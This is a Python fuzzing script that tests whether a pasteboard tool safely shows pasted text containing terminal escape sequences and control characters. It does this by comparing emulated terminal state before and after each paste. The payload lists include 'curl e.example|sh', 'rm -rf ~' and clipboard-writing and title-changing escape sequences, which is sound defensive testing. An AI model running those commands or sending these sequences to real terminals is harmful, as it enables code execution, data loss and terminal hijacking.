"""Writes hostile pastes to a real terminal. Usage: payloads.py PASTEBOARD COUNT SEED

Copies COUNT payloads one after the other. Several commands of PASTEBOARD show each in a new terminal, whose state
is compared before and after: modes, title, colors, character sets, margins, tab stops, and the answers that
it would send to the program. The output is checked as well. Prints a line for each live payload, and the number of payloads.
"""

import os
import pty
import random
import re
import select
import subprocess
import sys
import fcntl
import struct
import termios

import pyte

PARTS = [
    "\x1b[201~", "\x9b201~", "\x1b[200~", "\x1b[2J", "\x1b[H", "\x1b[1;31m", "\x1b[?25l", "\x1b[?1049h", "\x1b[?1000h",
    "\x1b[?2004l", "\x1b[6n", "\x1b[c", "\x1b[5n", "\x1b[20t", "\x1b[21t", "\x1b]0;owned\x07", "\x1b]2;owned\x1b\\",
    "\x1b]52;c;cm0gLXJm\x07", "\x1b]8;;http://e.example\x07", "\x1b]4;1;?\x07", "\x1b]11;?\x1b\\", "\x1b]50;#3\x07",
    "\x1bP$q m\x1b\\", "\x1bP+q544e\x1b\\", "\x1b_Ga=q;\x1b\\", "\x1b^x\x1b\\", "\x1bX", "\x1b(0", "\x1b)B", "\x0e", "\x0f", "\x1bc",
    "\x1b7", "\x1b8", "\x1bD", "\x1bM", "\x1bE", "\x1bH", "\x1b[3g", "\x1b[2;4r", "\x1b[4h", "\x1b[20h", "\x1b#8", "\x1b[!p",
    "\x1b[1;1'z", "\x1b[>c", "\x1b[=c", "\x1b[18t", "\x1bZ", "\x9b6n", "\x9d0;owned\x9c", "\x90q\x9c", "\x84", "\x85", "\x8d", "\x05",
    "\x07", "\x08", "\x08\x08\x08", "\x0b", "\x0c", "\x7f", "\x00", "\x03", "\x04", "\x15", "\x16", "\x1a", "\x1c", "\r", "\r\n", "\n",
    "\u202e", "\u2066", "\u200f", "\u200b", "\ufeff", "\U000e0041", "\u2028", "\u0430", "\u037e", "\uff52",
]
TEXT = ["curl e.example|sh", "rm -rf ~", "ls", "id", "abc", " ", "\t", "日本", "é"]
STYLES = re.compile(rb"\x1b\[[0-9;]*m")
LIVE = re.compile(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]|\r(?!\n)|\xc2[\x80-\x9f]|[\x80-\x9f](?<![\xc2-\xf4][\x80-\xbf])(?<![\xe0-\xf4]"
                  rb"[\x80-\xbf]{2})(?<![\xf0-\xf4][\x80-\xbf]{3})")


class Screen(pyte.Screen):
    """Records the terminal's answers, which a shell would take for keys."""

    answers = ""

    def write_process_input(self, data):
        self.answers += data


def state(screen):
    return (sorted(screen.mode), screen.title, screen.icon_name, screen.charset, screen.g0_charset, screen.g1_charset,
            screen.margins, sorted(screen.tabstops), screen.cursor.attrs, screen.cursor.hidden, len(screen.savepoints),
            screen.answers)


def written(words):
    """The output of a command to a terminal."""
    pid, master = pty.fork()
    if pid == 0:
        os.environ["TERM"] = "xterm-256color"
        os.execvp(words[0], words)
    fcntl.ioctl(master, termios.TIOCSWINSZ, struct.pack("HHHH", 40, 100, 0, 0))
    data = b""
    while True:
        ready, _, _ = select.select([master], [], [], 60)
        try:
            piece = os.read(master, 65536) if ready else b""
        except OSError:
            piece = b""
        if not piece:
            break
        data += piece
    os.close(master)
    os.waitpid(pid, 0)
    return data


def is_live(data):
    screen = Screen(100, 40)
    stream = pyte.ByteStream(screen)
    before = state(screen)
    try:
        stream.feed(data)
    except TypeError:
        # If the emulator fails on a sequence, real terminals obey it.
        return True
    return state(screen) != before or LIVE.search(STYLES.sub(b"", data)) is not None


def payload(number, chance):
    if number < len(PARTS):
        return "echo " + PARTS[number] + "id\n"
    return "".join(chance.choice(PARTS + TEXT) for _ in range(chance.randint(2, 12)))


def main():
    program, count, seed = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    chance = random.Random(seed)
    tried = live = 0
    # Checks the setup: written as they are, most payloads have an effect.
    effective = sum(is_live(payload(n, random.Random(n)).encode()) for n in range(count))
    for number in range(count):
        text = payload(number, chance)
        subprocess.run([program, "copy"], input=text.encode(), check=True)
        name = re.sub("[/\0]", "", text)
        commands = [["paste"], ["paste", "--safe"], ["paste", "--safe", "show"], ["inspect"], ["inspect", "plain"],
                    ["copy", "./" + name + "x"], ["paste", "--as", name]]
        for words in commands:
            tried += 1
            data = written([program, *words])
            if is_live(data):
                live += 1
                print("live:", number, words[:2], data[:300])
    print("effective", effective, "tried", tried, "live", live)


main()
